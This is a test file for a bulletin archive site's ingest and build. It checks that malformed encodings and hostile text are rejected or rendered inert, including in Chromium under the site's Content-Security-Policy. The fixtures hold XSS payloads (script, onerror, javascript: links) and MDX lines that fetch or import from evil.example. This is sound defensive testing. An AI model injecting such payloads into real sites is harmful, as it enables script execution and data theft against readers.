import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { XMLParser } from 'fast-xml-parser';
import matter from 'gray-matter';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { bulletinSchema } from '../../src/lib/content/bulletin-schema.ts';
import { entryIdOf } from '../../src/lib/content/content-layout.ts';
import { buildSite, makeContentDir, projectRoot, runIngest, type IngestJson } from '../helpers/build-site.ts';
import { hasChromium, noChromiumReason, openSiteInChromium } from '../helpers/chromium.ts';
import { fragmentFiles } from '../helpers/search-index.ts';

/**
 * Texts as they might arrive by pull request, from careless to hostile: each is either rejected with
 * a message saying what to do, or ingested and rendered literally. Nothing crashes, nothing becomes
 * live HTML or script, and no original is lost or overwritten. The fixtures are made here, in a
 * temporary folder, so no big or binary file lives in the repository.
 */
const KY_SENTENCE = 'Кыргызстандын коопсуздук кеңеши кызматташтыкты талкуулады.';
const RU_SENTENCE = 'Совет безопасности Кыргызстана обсудил сотрудничество в Бишкеке.';

/** Every string that would run or load something if it reached a page as markup. */
const INJECTIONS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '[басыңыз](javascript:alert(3))',
  '<a href="javascript:alert(4)">шилтеме</a>',
  '&lt;b&gt; &amp; &#60;script&#62;',
  '<svg onload=alert(5)>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
];
const MDX_LINES = [
  'import Evil from "https://evil.example/evil.js"',
  'export const leak = fetch("https://evil.example/leak")',
  '<Component onClick={() => alert(6)} />',
  'Кеңешмеде {alert(7)} жана {`${process.env.HOME}`} белгилери бар.',
];
const YAML_LINES = ['---', 'title: "hacked"', 'lang: en', '---', 'sameStory: [ky/other]'];
const HOSTILE_TITLE = 'Бишкекте <script>alert("title")</script> коопсуздук: "жыйын" өттү';

interface Case {
  name: string;
  /** File name inside the fixture folder; `path` may be given instead for odd paths. */
  file: string;
  bytes: Uint8Array;
  expect: 'ok' | 'rejected' | 'skipped';
  message?: RegExp;
}

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));

function cases(): Case[] {
  return [
    { name: 'an empty file', file: 'empty.txt', bytes: new Uint8Array(), expect: 'rejected', message: /the file is empty; paste the bulletin text into it/ },
    { name: 'white space only', file: 'blank.txt', bytes: utf8(' \n\t\r\n   \n'), expect: 'rejected', message: /only white space/ },
    {
      name: 'a 20 MB text',
      file: 'huge.txt',
      bytes: utf8(`${KY_SENTENCE}\n`.repeat(Math.ceil((20 * 1024 * 1024) / Buffer.byteLength(`${KY_SENTENCE}\n`)))),
      expect: 'rejected',
      message: /the file is 20\.\d MB, more than the 1\.0 MB a bulletin can be.*one article's text per file/,
    },
    {
      name: 'binary data with NUL bytes',
      file: 'photo.txt',
      bytes: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]),
      expect: 'rejected',
      message: /NUL bytes.*save it as UTF-8/,
    },
    {
      name: 'binary data without NUL bytes',
      file: 'noise.txt',
      bytes: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x98, 0xff, 0xfe, 0x80]),
      expect: 'rejected',
      message: /neither UTF-8, UTF-16 nor Windows-1251.*save it as UTF-8/,
    },
    {
      name: 'invalid UTF-8',
      file: 'latin1.txt',
      bytes: new Uint8Array(Buffer.from('Caf\xe9 na\xefve r\xe9sum\xe9 du conseil de s\xe9curit\xe9', 'latin1')),
      expect: 'rejected',
      message: /neither UTF-8.*save it as UTF-8/,
    },
    { name: 'control characters', file: 'bell.txt', bytes: utf8(`${KY_SENTENCE}\u0007\u001b[31m`), expect: 'rejected', message: /control characters/ },
    {
      name: 'Windows-1251',
      file: 'cp1251.txt',
      bytes: new Uint8Array(iconv.encode(`date 2023-03-01\nСовет безопасности собрался в Бишкеке\n${RU_SENTENCE}\n`, 'windows-1251')),
      expect: 'ok',
    },
    {
      name: 'UTF-16 LE with BOM',
      file: 'utf16le.txt',
      bytes: new Uint8Array(iconv.encode(`date 2023-03-02\nКоопсуздук кеңешинин жыйыны Бишкекте\n${KY_SENTENCE}\n`, 'utf-16le', { addBOM: true })),
      expect: 'ok',
    },
    {
      name: 'UTF-16 BE with BOM',
      file: 'utf16be.txt',
      bytes: new Uint8Array([0xfe, 0xff, ...iconv.encode(`date 2023-03-03\nСовет безопасности: заседание\n${RU_SENTENCE}\n`, 'utf-16be')]),
      expect: 'ok',
    },
    {
      name: 'UTF-16 without BOM',
      file: 'utf16-nobom.txt',
      bytes: new Uint8Array(iconv.encode(`${RU_SENTENCE}\n`, 'utf-16le')),
      expect: 'rejected',
      message: /NUL bytes, so it is binary or UTF-16 without a byte-order mark/,
    },
    {
      name: 'HTML, script and javascript: links in the text',
      file: 'html.txt',
      bytes: utf8(
        `date 2025-03-04\n${HOSTILE_TITLE}\n${INJECTIONS.map((injection) => `Бишкек шаарында ${injection} жыйын болду.`).join('\n')}\n${KY_SENTENCE}\n`,
      ),
      expect: 'ok',
    },
    {
      name: 'MDX syntax',
      file: 'mdx.txt',
      bytes: utf8(`date 2025-03-05\nКоопсуздук кеңешинин жыйыны Бишкекте өттү\n${MDX_LINES.join('\n')}\n${KY_SENTENCE}\n`),
      expect: 'ok',
    },
    {
      name: 'frontmatter-like lines',
      file: 'yaml.txt',
      bytes: utf8(`date 2025-03-06\n${YAML_LINES.join('\n')}\nКоопсуздук: "Бишкек" #жыйын & *anchor\n${KY_SENTENCE}\n`),
      expect: 'ok',
    },
    {
      name: 'a title with ": " and quotes',
      file: 'quotes.txt',
      bytes: utf8(`date 2025-03-07\nКоопсуздук: "Бишкек" жана 'Ош' жыйыны — #1\n${KY_SENTENCE}\n`),
      expect: 'ok',
    },
    {
      name: 'a file name with spaces',
      file: 'news from bishkek.txt',
      bytes: utf8(`date 2025-03-08\nБишкектеги жыйын тууралуу кабар\n${KY_SENTENCE} Биринчи.\n`),
      expect: 'ok',
    },
    {
      name: 'a Unicode file name',
      file: 'Бишкек жаңылыгы ✓ 2025.txt',
      bytes: utf8(`date 2025-03-09\nОш шаарындагы коопсуздук кеңешмеси\n${KY_SENTENCE} Экинчи.\n`),
      expect: 'ok',
    },
    {
      name: 'a file name with ".."',
      file: '..hidden..name...txt',
      bytes: utf8(`date 2025-03-10\nЖалал-Абаддагы коопсуздук жыйыны\n${KY_SENTENCE} Үчүнчү.\n`),
      expect: 'ok',
    },
    { name: 'the same text under another name', file: 'html copy.txt', bytes: new Uint8Array(), expect: 'skipped', message: /already in the archive as ky\// },
    {
      name: 'Tatar, a language without interface strings',
      file: 'tatar.txt',
      bytes: utf8(
        'date 2024-05-06\nКазанда куркынычсызлык буенча киңәшмә узды\nТатарстан Республикасы җитәкчелеге һәм Төрки дәүләтләр оешмасы вәкилләре хезмәттәшлекне тикшерделәр. Киңәшмәдә төбәк куркынычсызлыгы һәм терроризмга каршы көрәш мәсьәләләре каралды.\n',
      ),
      expect: 'ok',
    },
  ];
}

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const noStackTrace = /\n\s+at .+:\d+/;

let fixtures: Case[];
let inputDir: string;
let contentDir: string;
let report: IngestJson;
let ingestStderr: string;
let ingestStatus: number | null;
let dist: string;
/** Input file path → its result. */
const resultFor = (name: string) => report.results.find((result) => path.basename(result.input) === name)!;
const entryOf = (name: string) => {
  const file = path.resolve(projectRoot, resultFor(name).output!);
  return { file, text: readFileSync(file, 'utf8'), id: entryIdOf(contentDir, file) };
};
const page = (name: string) => readFileSync(path.join(dist, entryOf(name).id, 'index.html'), 'utf8');
/** The visible text of a page, roughly as a browser shows it: tags dropped, entities decoded. */
const decodeEntities = (html: string) =>
  html.replace(
    /&(#\d+|#x[\da-f]+|lt|gt|amp|quot|#39|apos);/gi,
    (_whole, code: string) =>
      ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'", apos: "'" })[code.toLowerCase()] ??
      String.fromCodePoint(code.startsWith('#x') ? parseInt(code.slice(2), 16) : Number(code.slice(1))),
  );

beforeAll(() => {
  fixtures = cases();
  inputDir = mkdtempSync(path.join(os.tmpdir(), 'bulletins-hostile-'));
  for (const fixture of fixtures) {
    const bytes = fixture.expect === 'skipped' ? readFileSync(path.join(inputDir, 'html.txt')) : fixture.bytes;
    writeFileSync(path.join(inputDir, fixture.file), bytes);
  }
  contentDir = makeContentDir();
  // Odd paths: one relative and through "..", the rest absolute; in the order of the cases.
  const inputs = fixtures.map((fixture) =>
    fixture.file === '..hidden..name...txt'
      ? `${path.relative(projectRoot, inputDir)}/../${path.basename(inputDir)}/${fixture.file}`
      : path.join(inputDir, fixture.file),
  );
  const result = runIngest(['--out', contentDir, '--json', ...inputs]);
  ingestStderr = result.stderr;
  ingestStatus = result.status;
  report = JSON.parse(result.stdout) as IngestJson;
  dist = buildSite(contentDir);
});

describe('ingest of hostile and malformed input', () => {
  it('never crashes or prints a stack trace, and exits 1 because some inputs are rejected', () => {
    expect(ingestStderr).not.toMatch(noStackTrace);
    expect(report.results).toHaveLength(fixtures.length);
    expect(fixtures.some((fixture) => fixture.expect === 'rejected')).toBe(true);
    expect(ingestStatus).toBe(1);
  });

  it.each(cases().map((fixture) => [fixture.name, fixture] as const))('%s: the expected outcome with a clear message', (_name, fixture) => {
    const result = resultFor(fixture.file);
    expect(result.status, JSON.stringify(result)).toBe(fixture.expect);
    if (fixture.expect === 'rejected') {
      expect(result.errors).toHaveLength(1);
      // The message names the file and what to do.
      expect(result.errors[0].startsWith(`${result.input}: `)).toBe(true);
      expect(result.errors[0]).toMatch(fixture.message!);
    }
    if (fixture.expect === 'skipped') expect(result.warnings.join(' ')).toMatch(fixture.message!);
  });

  it('keeps every ingested original byte for byte, inside the content folder, and loses or overwrites none', () => {
    const ingested = report.results.filter((result) => result.status === 'ok');
    const originals = readdirSync(path.join(contentDir, 'originals'), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    expect(originals).toHaveLength(ingested.length);
    for (const result of ingested) {
      const { data } = matter(entryOf(path.basename(result.input)).text);
      const kept = readFileSync(path.join(contentDir, data.original.path));
      expect(sha256(kept)).toBe(sha256(readFileSync(result.input)));
      expect(data.original.sha256).toBe(sha256(kept));
      expect(data.original.submittedAs).toBe(path.basename(result.input));
      expect(path.resolve(projectRoot, result.output!).startsWith(path.join(contentDir, 'bulletins') + path.sep)).toBe(true);
    }
    // Inputs outside the inbox are never removed, rejected or not.
    for (const fixture of fixtures) expect(readdirSync(inputDir)).toContain(fixture.file);
  });

  it('writes frontmatter that survives titles with ": ", quotes and markup, and lines of "---"', () => {
    for (const result of report.results.filter((entry) => entry.status === 'ok')) {
      const { data } = matter(readFileSync(path.resolve(projectRoot, result.output!), 'utf8'));
      expect(bulletinSchema.safeParse(data).success, result.output!).toBe(true);
      expect(data.title).toBe(result.title);
    }
    expect(matter(entryOf('html.txt').text).data.title).toBe(HOSTILE_TITLE);
    expect(matter(entryOf('quotes.txt').text).data.title).toBe('Коопсуздук: "Бишкек" жана \'Ош\' жыйыны — #1');
    // The "---" lines of the text stay in the body, escaped, and inject no key.
    const yaml = matter(entryOf('yaml.txt').text);
    expect(yaml.data.lang).toBe('ky');
    expect(yaml.data.sameStory).toEqual([]);
    expect(yaml.content).not.toMatch(/^---$/m);
  });

  it('leaves an archive that npm run check passes: what ingest writes is always valid', () => {
    const check = spawnSync(
      process.execPath,
      [path.join(projectRoot, 'node_modules/tsx/dist/cli.mjs'), 'scripts/check.ts', '--content', contentDir, '--today', '2026-01-01'],
      {
        cwd: projectRoot,
        encoding: 'utf8',
      },
    );
    expect(check.stdout).toMatch(/no errors/);
    expect(check.status).toBe(0);
  });

  it('gives the Tatar text its own section with the English interface', () => {
    const tatar = resultFor('tatar.txt');
    expect(tatar.lang).toBe('tt');
    const html = page('tatar.txt');
    expect(html).toContain('<html lang="tt"');
    expect(html).toContain('Казанда куркынычсызлык буенча киңәшмә узды');
    expect(readFileSync(path.join(dist, 'tt', 'index.html'), 'utf8')).toContain(entryOf('tatar.txt').id);
  });
});

describe('built pages of hostile input', () => {
  const hostile = ['html.txt', 'mdx.txt', 'yaml.txt', 'quotes.txt'];

  it('render every injection literally, as text', () => {
    const text = decodeEntities(page('html.txt').replace(/<[^>]+>/g, ''));
    expect(text).toContain(HOSTILE_TITLE);
    for (const injection of INJECTIONS) expect(text).toContain(injection);
    const mdx = decodeEntities(page('mdx.txt').replace(/<[^>]+>/g, ''));
    for (const line of MDX_LINES) expect(mdx).toContain(line);
    const yaml = decodeEntities(page('yaml.txt').replace(/<[^>]+>/g, ''));
    for (const line of YAML_LINES) expect(yaml).toContain(line);
  });

  it('turn no URL of the text into a link (GFM autolinks are escaped)', () => {
    for (const name of hostile) expect(page(name)).not.toMatch(/<a [^>]*href="(https?:|mailto:)[^"]*evil/);
  });

  it('contain no markup from the text: no script, iframe, event handler or javascript: URL', () => {
    for (const name of hostile) {
      const html = page(name);
      // Script elements come only as the site's own files, or as its JSON-LD data block (never run).
      expect(html, name).not.toMatch(/<script(?![^>]*\b(?:src="\/|type="application\/ld\+json"))/i);
      expect(html, name).not.toMatch(/<(iframe|svg|img|Component)\b/i);
      // Attribute names only: the escaped text says "onerror=" in the body and in description values.
      expect(html.replace(/="[^"]*"/g, '=""'), name).not.toMatch(/<[a-z][^<>]*\son\w+=/i);
      expect(html, name).not.toMatch(/<[a-z][^<>]*\s(href|src|action|formaction)="\s*javascript:/i);
      expect(html, name).not.toMatch(/<(link|script|iframe|img|object|embed)\b[^<>]*evil\.example/i);
    }
  });

  it('keep feeds free of live markup, and give the search index the text as plain text, never as HTML', () => {
    // Each item's HTML as a feed reader gets it, once the XML is parsed: it must be as inert as the page.
    const feed = new XMLParser({ ignoreAttributes: false }).parse(readFileSync(path.join(dist, 'ky', 'rss.xml'), 'utf8'));
    const items: { title: string; 'content:encoded': string }[] = [feed.rss.channel.item].flat();
    const hostileItem = items.find((item) => item.title === HOSTILE_TITLE)!;
    expect(hostileItem).toBeDefined();
    for (const item of items) {
      const itemHtml = item['content:encoded'];
      expect(itemHtml).not.toMatch(/<(script|img|iframe|svg|link|object|embed|Component)\b/i);
      expect(itemHtml).not.toMatch(/<[a-z][^<>]*\son\w+=/i);
      expect(itemHtml).not.toMatch(/<[a-z][^<>]*\s(href|src)="\s*javascript:/i);
    }
    expect(hostileItem['content:encoded']).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');

    // What the search page receives of each bulletin: Pagefind's fragments, gzipped JSON after a
    // "pagefind_dcd" signature. They hold text, not HTML: the bulletin's words as written, tags in
    // the text included as characters, which Pagefind escapes when it makes an excerpt (the search
    // page shows it inert: see "the search page works under the CSP" below). HTML in the index, the
    // rendered page's, would reach readers as markup.
    const fragments = fragmentFiles(dist).map(
      (file) =>
        JSON.parse(
          gunzipSync(readFileSync(file))
            .toString('utf8')
            .replace(/^pagefind_dcd/, ''),
        ) as { url: string; content: string; meta: Record<string, string> },
    );
    const hostileFragment = fragments.find((fragment) => fragment.url === `/${entryOf('html.txt').id}/`)!;
    expect(hostileFragment.meta.title).toBe(HOSTILE_TITLE);
    for (const injection of ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '&lt;b&gt; &amp; &#60;script&#62;'])
      expect(hostileFragment.content).toContain(injection);
    for (const fragment of fragments) expect(fragment.content, fragment.url).not.toMatch(/<\/?(p|em|strong|br|h\d|ul|li|blockquote)\b[^<>]*>/);
  });
});

describe.skipIf(!hasChromium)(`hostile pages in real Chromium, under the site's Content-Security-Policy${hasChromium ? '' : ` (${noChromiumReason})`}`, () => {
  const session = openSiteInChromium(() => dist);

  /** Opens a page and records everything that could betray executed or blocked content. */
  async function visit(pathname: string, act?: (tab: Page) => Promise<void>) {
    const tab = await session.browser.newPage();
    const log = { dialogs: [] as string[], consoleErrors: [] as string[], pageErrors: [] as string[], requests: [] as string[], violations: [] as string[] };
    tab.on('dialog', async (dialog) => {
      log.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      await dialog.dismiss();
    });
    tab.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') log.consoleErrors.push(`${message.type()}: ${message.text()}`);
    });
    tab.on('pageerror', (error) => log.pageErrors.push(error.message));
    tab.on('request', (request) => log.requests.push(request.url()));
    await tab.exposeFunction('reportViolation', (violation: string) => log.violations.push(violation));
    await tab.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        (window as unknown as { reportViolation: (text: string) => void }).reportViolation(
          `${event.violatedDirective} blocked ${event.blockedURI || 'inline'} at ${event.sourceFile}:${event.lineNumber}`,
        );
      });
    });
    await tab.goto(`${session.url}${pathname}`, { waitUntil: 'networkidle' });
    await act?.(tab);
    await tab.waitForTimeout(300);
    return { tab, log };
  }

  function expectNothingRan(log: Awaited<ReturnType<typeof visit>>['log']) {
    expect(log.dialogs).toEqual([]);
    expect(log.pageErrors).toEqual([]);
    expect(log.consoleErrors).toEqual([]);
    expect(log.violations).toEqual([]);
    const origin = new URL(session.url).origin;
    const foreign = log.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:'));
    expect(foreign, `requests:\n${log.requests.join('\n')}`).toEqual([]);
  }

  it('the bulletin with every injection executes nothing and requests nothing from another origin', async () => {
    for (const name of ['html.txt', 'mdx.txt', 'yaml.txt']) {
      const { tab, log } = await visit(`${entryOf(name).id}/`);
      expectNothingRan(log);
      const live = await tab.evaluate(() => ({
        inlineScripts: [...document.scripts].filter((script) => !script.src && script.type !== 'application/ld+json').map((script) => script.textContent),
        frames: document.querySelectorAll('iframe, frame, object, embed, svg, img').length,
        handlers: [...document.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes].filter((attribute) => attribute.name.startsWith('on')).map((attribute) => attribute.name),
        ),
        javascriptLinks: [...document.querySelectorAll('[href], [src]')].filter((element) =>
          /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
        ).length,
        text: document.body.innerText,
      }));
      expect(live.inlineScripts).toEqual([]);
      expect(live.frames).toBe(0);
      expect(live.handlers).toEqual([]);
      expect(live.javascriptLinks).toBe(0);
      if (name === 'html.txt') for (const injection of INJECTIONS) expect(live.text).toContain(injection);
      await tab.close();
    }
  });

  it('the search page works under the CSP: a search returns the hostile bulletin, inert, with no violation', async () => {
    const query = 'шилтеме';
    const { tab, log } = await visit(`search/?q=${encodeURIComponent(query)}`, async (tab) => {
      // The status line says how many results; each result is a link once its fragment has loaded.
      await tab.waitForFunction(
        () => Boolean(document.querySelector('[role=status]')?.textContent?.trim()) && document.querySelectorAll('.search-results a').length > 0,
        null,
        { timeout: 15_000 },
      );
    });
    const links = await tab.$$eval('.search-results a', (anchors) => anchors.map((anchor) => anchor.getAttribute('href')));
    expect(links).toContain(`/${entryOf('html.txt').id}/`);
    // Excerpts of the hostile text are shown as HTML: they must hold no live element either.
    const live = await tab.$$eval('.search-results', (lists) =>
      lists.map((list) => ({
        elements: list.querySelectorAll('script, iframe, img, svg, object, embed, link').length,
        handlers: [...list.querySelectorAll('*')].filter((element) => [...element.attributes].some((attribute) => attribute.name.startsWith('on'))).length,
        javascriptLinks: [...list.querySelectorAll('a')].filter((anchor) => /^\s*javascript:/i.test(anchor.getAttribute('href') ?? '')).length,
      })),
    );
    expect(live).toEqual([{ elements: 0, handlers: 0, javascriptLinks: 0 }]);
    expectNothingRan(log);
    const csp = await tab.$eval('meta[http-equiv="content-security-policy" i]', (meta) => meta.getAttribute('content'));
    expect(csp).toMatch(/script-src [^;]*'self'/);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    await tab.close();
  });

  it('the policy really blocks what it should: an inline script added to a page is refused and reported', async () => {
    const { tab, log } = await visit(`${entryOf('html.txt').id}/`);
    await tab.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
    });
    await tab.waitForTimeout(200);
    expect(await tab.evaluate(() => (window as unknown as { injected?: boolean }).injected)).toBeUndefined();
    expect(log.violations.join('\n')).toMatch(/script-src/);
    await tab.close();
  });
});
